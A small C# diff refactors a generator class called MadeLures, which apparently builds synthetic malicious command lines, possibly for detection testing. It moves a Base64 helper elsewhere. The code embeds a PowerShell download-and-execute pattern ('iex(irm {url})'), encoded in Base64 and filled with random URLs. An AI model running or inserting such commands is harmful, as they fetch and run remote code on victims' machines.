@@ -1,4 +1,3 @@
-using System.Text;
 using Changeling.Catalogues;
 using Changeling.Events;
 
@@ -39,7 +38,7 @@ internal static class MadeLures
             for (var i = 0; i < PerCommand; i++)
             {
                 var url = Pick(urls, random);
-                var line = command.Replace("{b64}", Encoded($"iex(irm {url})"), StringComparison.Ordinal)
+                var line = command.Replace("{b64}", OwnRow.Encoded($"iex(irm {url})"), StringComparison.Ordinal)
                     .Replace("{url}", url, StringComparison.Ordinal)
                     .Replace("{host}", Host(url), StringComparison.Ordinal);
                 var comment = random.NextDouble() < CommentShare
@@ -73,8 +72,6 @@ internal static class MadeLures
             Parent = new() { Name = parent[(parent.LastIndexOf('\\') + 1)..].ToLowerInvariant(), Path = parent },
         };
     }
-
-    private static string Encoded(string command) => Convert.ToBase64String(Encoding.Unicode.GetBytes(command));
 
     private static string Host(string url)
     {
